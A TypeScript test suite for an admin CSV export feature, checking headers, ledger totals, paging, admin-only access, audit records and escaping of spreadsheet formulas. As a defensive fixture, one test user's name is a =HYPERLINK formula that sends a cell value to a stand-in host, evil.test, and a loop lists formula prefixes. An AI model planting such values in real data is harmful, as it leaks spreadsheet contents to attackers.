import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { csvLine } from '#common/csv.ts'
import type { Person } from '#tests/support/test-app.ts'
import { openShop, type Shop } from '#tests/support/payments.ts'
import { listAudit } from '../audit-contract.ts'

let shop: Shop
let mallory: Person
before(async () => {
  shop = await openShop()
  const helen = await shop.teacher('Zoë "Zed" Marsh, ADI')
  mallory = await shop.person(`=HYPERLINK("http://evil.test?"&A1,"click")`)
  const id = await shop.buyLesson(mallory, helen, '2026-11-26T10:00:00Z')
  await shop.deliver(helen, id, '2026-11-26T11:00:00Z')
})
after(() => shop.close())

async function download(who: Person | undefined, path: string) {
  const reply = await fetch(`${shop.url}${path}`, {
    headers: who ? { authorization: `Bearer ${who.token}` } : {},
  })
  const bytes = Buffer.from(await reply.arrayBuffer())
  return { reply, bytes, text: bytes.toString('utf8') }
}

test('the report comes as CSV that spreadsheets read as UTF-8, with the figures of the page', async () => {
  const { reply, bytes, text } = await download(
    shop.admin,
    '/api/admin/report.csv?from=2026-11-23&to=2026-11-26&by=day',
  )
  assert.equal(reply.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
  assert.equal(
    reply.headers.get('content-disposition'),
    'attachment; filename="report-2026-11-23-to-2026-11-26.csv"',
  )
  assert.equal(reply.headers.get('cache-control'), 'no-store')
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
  const lines = text.slice(1).split('\r\n')
  assert.equal(lines.at(-1), '')
  assert.equal(lines.length, 6)
  assert.equal(lines[1], '2026-11-23,2026-11-23,1,1,1,0,0,38.00,0.00,0.00,0.00,0.00,0,')
  assert.equal(lines[4], '2026-11-26,2026-11-26,0,0,0,1,0,0.00,0.00,38.00,3.80,0.00,0,')
})

test('the ledger comes line by line, each summing to nothing, and no name in them is a formula', async () => {
  const { text } = await download(shop.admin, '/api/admin/ledger.csv?from=2026-11-23&to=2026-11-26')
  const rows = parse(text.slice(1))
  assert.deepEqual(rows[0]!.slice(0, 4), ['Booked at (UTC)', 'What', 'Learner', 'Instructor'])
  assert.deepEqual(
    rows
      .slice(1)
      .map(([, what, learner, instructor, , , ...rest]) => [what, learner, instructor, ...rest.slice(0, 7)]),
    [
      [
        'paid',
        `'${mallory.name}`,
        'Zoë "Zed" Marsh, ADI',
        '-38.00',
        '38.00',
        '0.00',
        '0.00',
        '0.00',
        '0.00',
        '0.00',
      ],
      [
        'released',
        `'${mallory.name}`,
        'Zoë "Zed" Marsh, ADI',
        '0.00',
        '-38.00',
        '0.00',
        '34.20',
        '0.00',
        '0.00',
        '3.80',
      ],
    ],
  )
})

test('more bookings than fit on a page all come, once each and in order', async () => {
  await shop.services.asSystem('a busy year', (db) =>
    db.queryUnchecked(
      `select count(payments.record_transaction('test:' || n, 'paid', null, null, $1, $2, '{"card_clearing": -100, "held": 100}')) from generate_series(1, 520) n`,
      [crypto.randomUUID(), crypto.randomUUID()],
    ),
  )
  const rows = parse(
    (await download(shop.admin, '/api/admin/ledger.csv?from=2026-11-26&to=2026-11-26')).text.slice(1),
  ).slice(1)
  assert.equal(rows.length, 521)
  assert.equal(new Set(rows.map((row) => row.at(-1))).size, 521)
})

test('only admins have them, and each download is on record', async () => {
  for (const path of ['/api/admin/report.csv', '/api/admin/ledger.csv']) {
    assert.equal((await download(undefined, `${path}?from=2026-11-23&to=2026-11-26`)).reply.status, 401)
    assert.equal((await download(mallory, `${path}?from=2026-11-23&to=2026-11-26`)).reply.status, 403)
    assert.equal((await download(shop.admin, `${path}?from=2026-11-26&to=2026-11-23`)).reply.status, 400)
  }
  const { entries } = await shop.call(shop.admin, listAudit, { kind: 'act' })
  assert.ok(
    entries.some(
      ({ what, detail }) => what === 'report-downloaded' && detail === 'ledger, 2026-11-23 to 2026-11-26',
    ),
  )
})

test('an administrator downloads the users found by role or words as CSV, nobody else does, and it is on record', async () => {
  const { reply, text } = await download(shop.admin, '/api/admin/users.csv?role=instructor')
  assert.equal(reply.headers.get('content-disposition'), 'attachment; filename="users.csv"')
  const [head, ...rows] = parse(text.slice(1))
  assert.deepEqual(head!.slice(0, 4), ['Name', 'Email', 'Role', 'Email confirmed'])
  assert.deepEqual(
    rows.map(([name, , role, confirmed]) => [name, role, confirmed]),
    [['Zoë "Zed" Marsh, ADI', 'instructor', 'yes']],
  )
  assert.ok(
    (await download(shop.admin, '/api/admin/users.csv')).text.includes(`'${mallory.name.slice(0, 10)}`),
  )
  assert.equal((await download(mallory, '/api/admin/users.csv')).reply.status, 403)
  assert.equal((await download(undefined, '/api/admin/users.csv')).reply.status, 401)
  assert.equal((await download(shop.admin, '/api/admin/users.csv?role=king')).reply.status, 400)
  const { entries } = await shop.call(shop.admin, listAudit, { kind: 'act' })
  assert.ok(entries.some(({ what, detail }) => what === 'report-downloaded' && detail === 'users'))
})

test('what a spreadsheet would work out is text, numbers stay numbers, and quotes, commas and lines stand as RFC 4180 says', () => {
  for (const formula of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '＝1'])
    assert.ok(parse(csvLine([formula]))[0]![0]!.startsWith("'"), JSON.stringify(formula))
  assert.equal(
    csvLine(['a,b', 'say "hi"', 'two\nlines', null, -5, { pence: -1_205 }, { pence: 7 }]),
    '"a,b","say ""hi""","two\nlines",,-5,-12.05,0.07\r\n',
  )
})

/** As RFC 4180 reads. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [whole, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (whole === '') break
    rows.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}
